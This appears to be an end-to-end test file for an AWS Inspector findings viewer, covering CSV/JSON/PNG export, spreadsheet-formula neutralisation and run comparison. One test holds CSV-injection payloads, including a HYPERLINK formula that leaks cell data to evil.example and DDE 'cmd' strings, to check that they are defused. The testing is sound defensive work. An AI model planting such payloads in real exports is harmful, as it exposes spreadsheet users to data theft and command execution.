// Export (CSV all fields / visible columns, DescribeFindings JSON, chart PNG) of the filtered and
// sorted view, formula-safe CSV, re-opening an exported JSON, and comparing two runs or two sets
// of files. Every expectation is computed here from the sample files, never read from the app.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { openViewer, T } from './lib-viewer.mjs';
import { DIST } from './harness.mjs';
import { describeFindings } from './fixtures.mjs';

// ---------------------------------------------------------------------------------------------
// Helpers

const SAMPLES = path.join(DIST, 'samples');
const sampleNames = () => JSON.parse(fs.readFileSync(path.join(SAMPLES, 'index.json'), 'utf8')).files;
const readSample = (name) => JSON.parse(fs.readFileSync(path.join(SAMPLES, name), 'utf8'));

/** Every finding of the bundled samples, with the file it came from. */
function sampleFindings() {
  const out = [];
  for (const name of sampleNames().filter((n) => n.startsWith('describe-findings'))) {
    for (const f of readSample(name).findings) out.push({ f, file: name });
  }
  return out;
}

/** RFC 4180: quoted fields, doubled quotes, CR/LF inside quotes. Returns rows of cells. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          cell += '"';
          i++;
        } else quoted = false;
      } else cell += c;
      continue;
    }
    if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      // the LF ends the record
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** Clicks `locator` and returns the download: {name, buf}. */
async function download(app, locator) {
  const [dl] = await Promise.all([app.page.waitForEvent('download'), locator.click()]);
  assert.equal(await dl.failure(), null, 'download failed');
  const buf = fs.readFileSync(await dl.path());
  return { name: dl.suggestedFilename(), buf };
}

/** Opens the toolbar's Export menu and downloads with the button `id` ({'data-chart': …}). */
async function exportView(app, id, attrs = {}) {
  await app.byTestId('export-toggle').click();
  return download(app, app.byTestId(id, attrs));
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
function csvOf(buf) {
  assert.ok(buf.subarray(0, 3).equals(BOM), 'CSV starts with a UTF-8 BOM');
  const text = buf.subarray(3).toString('utf8');
  assert.ok(text.endsWith('\r\n'), 'CRLF line ends');
  assert.ok(!text.split('\r\n')[0].includes('\n'), 'the header line ends with CRLF');
  return parseCsv(text);
}

/** Epoch ms of a timestamp as the samples write it (epoch seconds, ISO, boto3 `str()`). */
const ms = (v) => (typeof v === 'number' ? Math.round(v * 1000) : Date.parse(String(v).replace(' ', 'T')));

/** A cell a spreadsheet would run (OWASP: = + - @ tab CR first), unless it is a plain number. */
const formulaLike = (s) => /^[=+\-@\t\r]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s);

async function openSamples(t) {
  const app = await openViewer(t);
  await app.byTestId('open-samples').click();
  const total = sampleFindings().length;
  await app.waitForCount(total, 60_000);
  await app.page.waitForFunction(() => !document.querySelector('[data-testid="progress"]'));
  return app;
}

// Compare, independently: key = rule id + instance + rules package + PORT.
const keyOf = (f) =>
  JSON.stringify([
    f.id ?? '',
    f.assetAttributes?.agentId ?? f.attributes?.find((a) => a.key === 'INSTANCE_ID')?.value ?? '',
    f.serviceAttributes?.rulesPackageArn ?? '',
    f.attributes?.find((a) => a.key === 'PORT')?.value ?? '',
  ]);

function expectedDiff(as, bs) {
  const index = (xs) => {
    const m = new Map();
    for (const f of xs) {
      assert.ok(!m.has(keyOf(f)), 'sample keys are unique within a side');
      m.set(keyOf(f), f);
    }
    return m;
  };
  const a = index(as);
  const b = index(bs);
  const rows = [];
  for (const [k, f] of b) {
    if (!a.has(k)) rows.push({ status: 'new', f });
    else rows.push({ status: a.get(k).severity === f.severity ? 'unchanged' : 'changed', f });
  }
  for (const [k, f] of a) if (!b.has(k)) rows.push({ status: 'fixed', f });
  const count = (s) => rows.filter((r) => r.status === s).length;
  return { rows, new: count('new'), fixed: count('fixed'), changed: count('changed'), unchanged: count('unchanged'), a: as.length, b: bs.length };
}

async function summary(app) {
  return app.byTestId('compare-summary').evaluate((e) => ({
    new: Number(e.dataset.new),
    fixed: Number(e.dataset.fixed),
    changed: Number(e.dataset.changed),
    unchanged: Number(e.dataset.unchanged),
    a: Number(e.dataset.a),
    b: Number(e.dataset.b),
  }));
}

const pick = ({ rows, ...counts }) => counts; // eslint-disable-line no-unused-vars

/** Waits until the summary shows `want` (the counts); fails with what it shows. */
async function waitSummary(app, want, timeout = 10_000) {
  const deadline = Date.now() + timeout;
  let got;
  while (Date.now() < deadline) {
    got = await summary(app);
    if (JSON.stringify(got) === JSON.stringify(want)) return;
    await app.page.waitForTimeout(50);
  }
  assert.deepEqual(got, want, 'compare summary');
}

// ---------------------------------------------------------------------------------------------

test('export: CSV (all fields, visible columns) and JSON of the filtered, sorted view; the JSON reads back cleanly; charts as PNG', { timeout: T * 2 }, async (t) => {
  const app = await openSamples(t);
  const all = sampleFindings();

  // Filter (High + Medium, and a search) and sort by title.
  await app.byTestId('severity-count', { 'data-severity': 'High' }).click();
  await app.byTestId('severity-count', { 'data-severity': 'Medium' }).click();
  await app.byTestId('search').fill('instance');
  const want = all.filter(
    ({ f }) =>
      ['High', 'Medium'].includes(f.severity) &&
      [f.title, f.description, f.recommendation, f.id, f.arn].some((s) => (s ?? '').toLowerCase().includes('instance')),
  );
  assert.ok(want.length > 20 && want.length < all.length, `a real filter (${want.length})`);
  await app.waitForCount(want.length);
  await app.byTestId('sort', { 'data-column': 'title' }).click();
  const order = await app.allRowArns();
  assert.equal(order.length, want.length);

  // CSV, all fields.
  const csvAll = await exportView(app, 'export-csv');
  assert.match(csvAll.name, /^inspector-findings-\d{8}-\d{6}\.csv$/);
  const table = csvOf(csvAll.buf);
  const header = table[0];
  for (const h of ['ARN', 'Severity', 'Numeric severity', 'Title', 'Rule ID', 'Rules package', 'Rules package ARN', 'Run', 'Run ARN',
    'Instance ID', 'Name tag', 'Hostname', 'IP addresses', 'Auto Scaling group', 'AMI ID', 'Created (UTC)', 'Updated (UTC)',
    'Description', 'Recommendation', 'Attributes', 'User attributes']) {
    assert.ok(header.includes(h), `column ${h}`);
  }
  assert.equal(table.length - 1, want.length, 'one CSV row per finding in the view');
  assert.ok(table.every((r) => r.length === header.length), 'rectangular');
  const col = (h) => header.indexOf(h);
  assert.deepEqual(table.slice(1).map((r) => r[col('ARN')]), order, 'CSV order = table order');
  // Cells against the source JSON.
  const byArn = new Map(all.map((x) => [x.f.arn, x.f]));
  for (const r of table.slice(1, 40)) {
    const f = byArn.get(r[col('ARN')]);
    assert.equal(r[col('Title')], f.title);
    assert.equal(r[col('Severity')], f.severity);
    assert.equal(r[col('Rule ID')], f.id);
    assert.equal(r[col('Description')], f.description);
    assert.equal(r[col('Run ARN')], f.serviceAttributes.assessmentRunArn);
    assert.equal(r[col('Instance ID')], f.assetAttributes.agentId);
    assert.match(r[col('Created (UTC)')], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3,6}Z$/);
    assert.equal(Date.parse(r[col('Created (UTC)')]), ms(f.createdAt));
    assert.equal(r[col('Attributes')], f.attributes.map((a) => (a.value === undefined ? a.key : `${a.key}=${a.value}`)).join('; '));
  }
  assert.ok(table.flat().every((c) => !formulaLike(c)), 'no formula-like cell');

  // CSV, visible columns only (hide IP and Run first).
  await app.page.locator('details.menu > summary').click();
  await app.byTestId('column-toggle', { 'data-column': 'ip' }).uncheck();
  await app.byTestId('column-toggle', { 'data-column': 'run' }).uncheck();
  await app.page.locator('details.menu > summary').click();
  const visible = csvOf((await exportView(app, 'export-csv-visible')).buf);
  assert.deepEqual(visible[0], ['Severity', 'Title', 'Rule ID', 'Rules package', 'Instance', 'Created (UTC)']);
  assert.equal(visible.length - 1, want.length);
  assert.deepEqual(visible.slice(1).map((r) => r[1]), order.map((a) => byArn.get(a).title), 'same order');

  // JSON: a DescribeFindings response of the view, in table order.
  const json = await exportView(app, 'export-json');
  assert.match(json.name, /^inspector-findings-\d{8}-\d{6}\.json$/);
  const doc = JSON.parse(json.buf.toString('utf8'));
  assert.deepEqual(Object.keys(doc), ['findings', 'failedItems']);
  assert.deepEqual(doc.failedItems, {});
  assert.deepEqual(doc.findings.map((f) => f.arn), order);
  for (const f of doc.findings.slice(0, 25)) {
    const src = byArn.get(f.arn);
    for (const k of ['id', 'title', 'description', 'recommendation', 'severity', 'numericSeverity', 'attributes', 'assetAttributes', 'serviceAttributes']) {
      assert.deepEqual(f[k], src[k], `${k} of ${f.arn}`);
    }
    assert.equal(Date.parse(f.createdAt), ms(src.createdAt));
  }

  // PNG of a chart.
  const png = await exportView(app, 'export-png', { 'data-chart': 'severity' });
  assert.match(png.name, /^inspector-chart-severity-\d{8}-\d{6}\.png$/);
  assert.ok(png.buf.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])), 'a PNG');
  assert.ok(png.buf.length > 1000, 'with content');
  await app.assertClean();

  // The exported JSON, re-opened in a fresh app: same findings, no errors or warnings.
  const again = await openViewer(t);
  await again.load([{ name: json.name, text: json.buf.toString('utf8') }]);
  await again.waitForCount(want.length);
  const info = (await again.loadedFiles())[json.name];
  assert.equal(info.records, want.length);
  assert.equal(info.errors, 0, 'no errors');
  assert.equal(info.warnings, 0, 'no warnings');
  await again.byTestId('sort', { 'data-column': 'title' }).click();
  assert.deepEqual(await again.allRowArns(), order, 'same rows, same order');
  await again.assertClean();
});

test('export: CSV cells that a spreadsheet would run are neutralised; quotes, newlines and non-ASCII survive', { timeout: T }, async (t) => {
  const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-1+1', 'Plain, "quoted"\nsecond line – Ünïcödé 東京'];
  const { doc } = describeFindings({ severities: ['High', 'High', 'Medium', 'Low', 'Informational'] });
  doc.findings.forEach((f, i) => {
    f.title = payloads[i];
    f.description = i === 0 ? '=1+2' : `Line 1\r\nLine "2", ok`;
  });
  const name = 'formulas.json';
  const app = await openViewer(t);
  await app.load([{ name, text: JSON.stringify(doc, null, 2) }]);
  await app.waitForCount(5);
  const order = await app.allRowArns();

  const { buf } = await exportView(app, 'export-csv');
  const raw = buf.toString('utf8');
  for (const line of raw.split('\r\n')) {
    for (const p of ['=HYPERLINK', '+cmd', '@SUM', '-1+1']) assert.ok(!line.startsWith(p) && !line.includes(`,${p}`), `raw ${p} in ${line}`);
  }
  const table = csvOf(buf);
  const col = (h) => table[0].indexOf(h);
  assert.deepEqual(table.slice(1).map((r) => r[col('ARN')]), order);
  const titles = new Map(table.slice(1).map((r) => [r[col('ARN')], r[col('Title')]]));
  doc.findings.forEach((f, i) => {
    const got = titles.get(f.arn);
    if (i < 4) assert.equal(got, `'${payloads[i]}`, `payload ${i} neutralised with a leading quote`);
    else assert.equal(got, payloads[i], 'ordinary text unchanged (quotes, comma, newline, non-ASCII)');
  });
  const descs = table.slice(1).map((r) => r[col('Description')]);
  assert.ok(descs.includes("'=1+2"));
  assert.ok(descs.includes('Line 1\r\nLine "2", ok'));
  assert.ok(table.flat().every((c) => !formulaLike(c)), 'no cell would run');
  // Visible columns too.
  const visible = csvOf((await exportView(app, 'export-csv-visible')).buf);
  assert.ok(visible.flat().every((c) => !formulaLike(c)));
  // The JSON export keeps the text exactly (it is data, not a spreadsheet).
  const json = JSON.parse((await exportView(app, 'export-json')).buf.toString('utf8'));
  assert.deepEqual(json.findings.map((f) => f.title).sort(), [...payloads].sort());
  await app.assertClean();
});

test('compare: the two latest runs of a template by default, other runs, and two sets of files; counts match the files; CSV export', { timeout: T * 2 }, async (t) => {
  const app = await openSamples(t);
  const all = sampleFindings();
  const byRun = (arn) => all.filter((x) => x.f.serviceAttributes.assessmentRunArn === arn).map((x) => x.f);
  const byFiles = (re) => all.filter((x) => re.test(x.file)).map((x) => x.f);

  // Default: the newest run with findings, and the previous run of its template.
  const runs = readSample('describe-assessment-runs.json').assessmentRuns;
  const when = (r) => ms(r.completedAt ?? r.startedAt ?? r.createdAt);
  const withFindings = runs.filter((r) => byRun(r.arn).length > 0).sort((x, y) => when(y) - when(x));
  let A;
  let B;
  for (const [i, r] of withFindings.entries()) {
    const prev = withFindings.slice(i + 1).find((p) => p.assessmentTemplateArn === r.assessmentTemplateArn);
    if (prev) {
      [A, B] = [prev, r];
      break;
    }
  }
  assert.ok(A && B, 'the samples have two runs of one template');

  await app.byTestId('compare').click();
  await app.byTestId('compare-summary').waitFor();
  assert.equal(await app.byTestId('compare').getAttribute('aria-selected'), 'true');
  assert.equal(await app.byTestId('compare-run-a').inputValue(), A.arn);
  assert.equal(await app.byTestId('compare-run-b').inputValue(), B.arn);
  let want = expectedDiff(byRun(A.arn), byRun(B.arn));
  assert.deepEqual(await summary(app), pick(want));
  assert.ok(want.new > 0 && want.fixed > 0 && want.changed > 0 && want.unchanged > 0, JSON.stringify(pick(want)));
  // The chart has the four counts.
  const chart = app.page.locator('canvas[data-chart="compare"]');
  await app.waitForCanvasInk(chart);
  const bars = await app.chartTable('compare');
  assert.deepEqual(
    bars.map((r) => Number(r[1].replace(/,/g, ''))),
    [want.new, want.fixed, want.changed, want.unchanged],
  );
  // The table: every pair once; filter by status and by text.
  const rowStatuses = () => app.page.evaluate(() => [...document.querySelectorAll('[data-testid="compare-row"]')].map((e) => e.dataset.status));
  assert.equal((await rowStatuses()).length, want.rows.length);
  await app.byTestId('compare-status').selectOption('new');
  assert.deepEqual(await rowStatuses(), Array(want.new).fill('new'));
  await app.byTestId('compare-status').selectOption('changed');
  assert.deepEqual(await rowStatuses(), Array(want.changed).fill('changed'));
  // Changed rows show from → to.
  const changedText = await app.byTestId('compare-row').first().textContent();
  assert.match(changedText, /(High|Medium|Low|Informational|Undefined) → (High|Medium|Low|Informational|Undefined)/);
  await app.byTestId('compare-status').selectOption('');
  const inst = want.rows.find((r) => r.status === 'new').f.assetAttributes.agentId;
  await app.byTestId('compare-search').fill(inst);
  const withInst = want.rows.filter((r) => (r.f.assetAttributes.agentId ?? '') === inst).length;
  assert.equal((await rowStatuses()).length, withInst);
  assert.equal(await app.byTestId('compare-row-count').textContent(), String(withInst));

  // CSV of the rows shown (status "fixed", no search).
  await app.byTestId('compare-search').fill('');
  await app.byTestId('compare-status').selectOption('fixed');
  const diff = await download(app, app.byTestId('export-compare-csv'));
  assert.match(diff.name, /^inspector-compare-\d{8}-\d{6}\.csv$/);
  const rows = csvOf(diff.buf);
  assert.equal(rows[0][0], 'Status');
  assert.equal(rows.length - 1, want.fixed);
  assert.ok(rows.slice(1).every((r) => r[0] === 'Fixed' && r[2] === '' && r[1] !== ''));
  const fixedArns = new Set(want.rows.filter((r) => r.status === 'fixed').map((r) => r.f.arn));
  assert.deepEqual(new Set(rows.slice(1).map((r) => r[rows[0].indexOf('Finding ARN (A)')])), fixedArns);
  assert.ok(rows.flat().every((c) => !formulaLike(c)));
  await app.byTestId('compare-status').selectOption('');

  // Other runs: the first and last run of another template.
  const other = runs.filter((r) => r.assessmentTemplateArn !== A.assessmentTemplateArn && byRun(r.arn).length > 0).sort((x, y) => when(x) - when(y));
  const [oa, ob] = [other[0], other.filter((r) => r.assessmentTemplateArn === other[0].assessmentTemplateArn).at(-1)];
  assert.notEqual(oa.arn, ob.arn);
  await app.byTestId('compare-run-a').selectOption(oa.arn);
  await app.byTestId('compare-run-b').selectOption(ob.arn);
  want = expectedDiff(byRun(oa.arn), byRun(ob.arn));
  await waitSummary(app, pick(want));
  // Swap: new and fixed trade places, and the selects follow.
  await app.byTestId('compare-swap').click();
  await waitSummary(app, { ...pick(want), new: want.fixed, fixed: want.new, a: want.b, b: want.a });
  assert.equal(await app.byTestId('compare-run-a').inputValue(), ob.arn);
  assert.equal(await app.byTestId('compare-run-b').inputValue(), oa.arn);

  // Two sets of files: run 1's files against run 3's (by file name).
  await app.byTestId('compare-mode', { value: 'files' }).check();
  const filesA = sampleNames().filter((n) => /^describe-findings-run1-/.test(n));
  const filesB = sampleNames().filter((n) => /^describe-findings-run3-/.test(n));
  for (const f of filesA) await app.byTestId('compare-file-a', { 'data-file': f }).check();
  for (const f of filesB) await app.byTestId('compare-file-b', { 'data-file': f }).check();
  want = expectedDiff(byFiles(/^describe-findings-run1-/), byFiles(/^describe-findings-run3-/));
  await waitSummary(app, pick(want));
  assert.equal((await rowStatuses()).length, want.rows.length);
  await app.assertClean();
});
